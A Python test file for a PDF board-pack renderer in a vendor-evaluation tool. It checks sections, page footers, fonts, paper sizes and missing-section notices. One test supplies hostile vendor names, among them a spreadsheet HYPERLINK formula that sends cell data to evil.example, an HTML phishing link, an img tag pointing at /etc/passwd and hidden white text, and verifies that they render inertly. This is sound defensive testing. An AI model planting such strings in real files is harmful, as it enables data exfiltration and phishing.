"""The PDF board pack: opened with pypdf, every section and vendor is there, nothing injected."""

from __future__ import annotations

import io
import re
from dataclasses import replace

import pytest
from pypdf import PdfReader

from computescore.errors import UsageError
from computescore.reports.model import BoardPack, fingerprint
from computescore.reports.pdf import render_pdf
from computescore.reports.safe import REPLACEMENT, clean_text
from tests.reports.conftest import pdf_text, squash

SECTIONS = [
    "VENDOR EVALUATION · BOARD PACK",
    "Executive summary",
    "Recommendation",
    "How robust is the ranking?",
    "Top risks",
    "Open compliance findings",
    "Ranking",
    "Margin and robustness",
    "Knock-outs",
    "Charts",
    "TCO detail",
    "Compliance and export-control findings",
    "Exit terms compared",
    "Methodology and assumptions",
    "Formulas",
    "Currency conversion",
    "Rules and catalogue",
    "Measured and assumed",
    "Terms used",
    "Appendix: every quote line and its source",
]


def test_every_section_and_vendor_is_in_the_text(pack: BoardPack, pack_pdf: bytes) -> None:
    text = pdf_text(pack_pdf)
    for title in SECTIONS:
        assert title in text, title
    assert pack.ranking is not None
    for row in pack.ranking.rows:
        assert squash(row.vendor) in text, row.vendor
    assert "Dragon Compute 数据" in text
    assert "Müller Rechenzentrum GmbH" in text
    # Long sources wrap inside their cell, so compare without whitespace.
    solid = "".join(text.split())
    for line in pack.lines:
        assert line.source is not None
        assert line.source in solid, line.source


def test_key_figures_reach_the_summary(pack: BoardPack, pack_pdf: bytes) -> None:
    reader = PdfReader(io.BytesIO(pack_pdf))
    summary = squash(reader.pages[1].extract_text())
    assert pack.ranking is not None and pack.ranking.leader is not None
    leader = pack.ranking.leader
    tco = pack.tco_for(leader.quote_key)
    assert tco is not None
    assert f"${tco.total_usd:,.0f}" in summary
    assert f"{pack.ranking.margin_points:.1f} pts" in summary
    assert squash(pack.risks[0])[:60] in summary


def test_every_page_has_page_n_of_n_and_the_fingerprint(pack: BoardPack, pack_pdf: bytes) -> None:
    reader = PdfReader(io.BytesIO(pack_pdf))
    total = len(reader.pages)
    assert total > 8
    fp = fingerprint(pack)
    for number, page in enumerate(reader.pages, start=1):
        text = squash(page.extract_text())
        assert f"Generated {pack.meta.generated_on.isoformat()}" in text
        if number > 1:
            assert f"Page {number} of {total}" in text
            assert fp[:16] in text
            assert "CONFIDENTIAL — BOARD USE ONLY" in text
    assert fp in pdf_text(pack_pdf)


def test_identical_packs_give_identical_bytes(pack: BoardPack, pack_pdf: bytes) -> None:
    assert render_pdf(pack) == pack_pdf
    made = PdfReader(io.BytesIO(pack_pdf)).metadata
    assert made is not None and made.creation_date is not None
    assert made.creation_date.date() == pack.meta.generated_on


def test_fonts_are_embedded_subsets(pack_pdf: bytes) -> None:
    reader = PdfReader(io.BytesIO(pack_pdf))
    fonts: set[str] = set()
    for page in reader.pages:
        resources = page["/Resources"]
        for font in resources.get("/Font", {}).values():
            obj = font.get_object()
            fonts.add(str(obj["/BaseFont"]))
            descendant = obj.get("/DescendantFonts")
            described = obj if descendant is None else descendant[0].get_object()
            descriptor = described.get("/FontDescriptor")
            if descriptor is not None:
                assert "/FontFile2" in descriptor.get_object()
    assert any("DejaVuSans" in name for name in fonts)
    assert any("DroidSansFallback" in name for name in fonts)
    assert not any(name in ("/Helvetica", "/Times-Roman") for name in fonts)


def test_hostile_names_render_literally_without_links(
    hostile_pack: BoardPack, hostile_pdf: bytes
) -> None:
    text = pdf_text(hostile_pdf)
    assert "<b>Acme & Sons</b>" in text
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Click")' in text
    assert "@SUM(1,1) Capital" in text
    assert "Acme $5 off, now $10 $\\foo$" in text
    assert 'Dragon Compute 数据 <a href="https://evil.example/pay">click to approve</a>' in text
    assert '-15.5 Hosting <font color="white">(disqualified)</font>' in text
    assert '#N/A Servers <img src="/etc/passwd"/>' in text
    assert f"+1 Cloud{REPLACEMENT * 3}" in text
    assert "=1+1 Tab & <b>unclosed" in text
    # The very long name is shown (clipped in narrow cells, with a note saying so).
    assert squash(clean_text(hostile_pack.ranking.rows[0].vendor))[:20] in text  # type: ignore[union-attr]
    assert "Smith <Jones> Ltd very long name very long name" in text
    assert "Hostile names <b>test</b> & $x$" in text
    reader = PdfReader(io.BytesIO(hostile_pdf))
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            assert action is None or "/URI" not in action.get_object()
    assert b"/URI" not in hostile_pdf
    assert b"evil.example/pay)" not in hostile_pdf


def test_letter_paper_has_letter_pages(hostile_pdf: bytes) -> None:
    page = PdfReader(io.BytesIO(hostile_pdf)).pages[0]
    assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (612, 792)


def test_a4_paper_has_a4_pages(pack_pdf: bytes) -> None:
    page = PdfReader(io.BytesIO(pack_pdf)).pages[0]
    assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (595, 842)


def test_missing_sections_say_so(bare_pack: BoardPack) -> None:
    text = pdf_text(render_pdf(bare_pack))
    for sentence in [
        "No recommendation: the scorecard has not been computed for this evaluation.",
        "Monte Carlo not run for this evaluation.",
        "Compliance checks not run for this evaluation.",
        "Total cost of ownership not computed for this evaluation.",
        "Sensitivity analysis not run for this evaluation.",
        "Break-even curve not computed for this evaluation",
        "No quote lines were recorded for this evaluation.",
        "No exit terms were recorded for this evaluation's quotes.",
        "The scorecard has not been computed for this evaluation.",
    ]:
        assert sentence in text, sentence
    for title in SECTIONS:
        assert title in text or title in ("Margin and robustness", "Knock-outs"), title


def test_monte_carlo_absent_alone_is_stated(pack: BoardPack) -> None:
    text = pdf_text(render_pdf(replace(pack, monte_carlo=None)))
    assert "Monte Carlo not run for this evaluation." in text


def test_unknown_paper_is_a_usage_error(pack: BoardPack) -> None:
    with pytest.raises(UsageError, match="a4 or letter"):
        render_pdf(pack, "a3")


def test_twenty_vendor_tables_split_with_repeated_headers() -> None:
    from tests.fixtures.sample_pack import sample_pack

    big = sample_pack(20, 20)
    data = render_pdf(big)
    reader = PdfReader(io.BytesIO(data))
    appendix_pages = [
        squash(p.extract_text())
        for p in reader.pages
        if "Vendor / quote Description What, count, term" in squash(p.extract_text())
    ]
    assert len(appendix_pages) >= 5  # 400 lines need several pages, each with the header
    assert re.search(r"Page \d+ of \d+", appendix_pages[-1])


def test_severity_words_are_never_broken(pack_pdf: bytes) -> None:
    text = pdf_text(pack_pdf)
    assert "Knock-out" in text and "Warning" in text
    assert "Knock-ou t" not in text and "Knock- out" not in text and "Warnin g" not in text
